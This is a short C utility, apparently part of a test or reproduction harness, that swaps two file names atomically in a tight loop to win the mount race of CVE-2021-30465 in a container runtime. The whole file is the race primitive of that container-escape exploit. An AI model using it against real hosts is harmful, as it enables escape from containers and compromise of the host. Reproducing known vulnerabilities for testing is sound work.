/* SPDX-License-Identifier: Apache-2.0 */
/*
 * berth-swapper: swaps two names atomically (renameat2 RENAME_EXCHANGE), as fast as it
 * can, so that each name always exists and is one of the two files (a directory, then a
 * symlink, ...). The race of CVE-2021-30465 needs exactly that, and busybox and Python's
 * os module have no RENAME_EXCHANGE. Runs on the host, next to a runtime that mounts.
 *
 *   berth-swapper A B SECONDS [HOLD_US]
 *       swap until killed (SIGTERM) or SECONDS have passed, then print the number of swaps;
 *       with HOLD_US, keep the names swapped (A is what B was) HOLD_US microseconds each
 *       time, busy, and swap back at once: on a loaded machine the other side often runs
 *       its whole critical part while the swapper is off the CPU, so the time spent in
 *       each state is the chance that the other side sees it.
 *
 * "ready" is written to stdout after the first swap, so the caller can wait for it.
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop;

static long long now_us(void)
{
	struct timespec ts;

	(void) clock_gettime(CLOCK_MONOTONIC, &ts);
	return (long long) ts.tv_sec * 1000000 + ts.tv_nsec / 1000;
}

static void on_term(int sig)
{
	(void) sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	struct sigaction sa = {.sa_handler = on_term};
	unsigned long swaps = 0;
	long long hold, until;
	time_t end;

	if (argc != 4 && argc != 5) {
		fprintf(stderr, "usage: berth-swapper A B SECONDS [HOLD_US]\n");
		return 2;
	}
	end = time(NULL) + atol(argv[3]);
	hold = argc == 5 ? atoll(argv[4]) : 0;
	(void) sigaction(SIGTERM, &sa, NULL);
	(void) sigaction(SIGINT, &sa, NULL);
	while (!stop) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) <
		    0) {
			perror("renameat2");
			return 1;
		}
		if (++swaps == 1) {
			printf("ready\n");
			fflush(stdout);
		}
		if (hold > 0 && (swaps & 1) == 1)
			for (until = now_us() + hold; !stop && now_us() < until;)
				;
		if ((swaps & 1023) == 0 && time(NULL) >= end)
			break;
	}
	printf("%lu swaps\n", swaps);
	return 0;
}
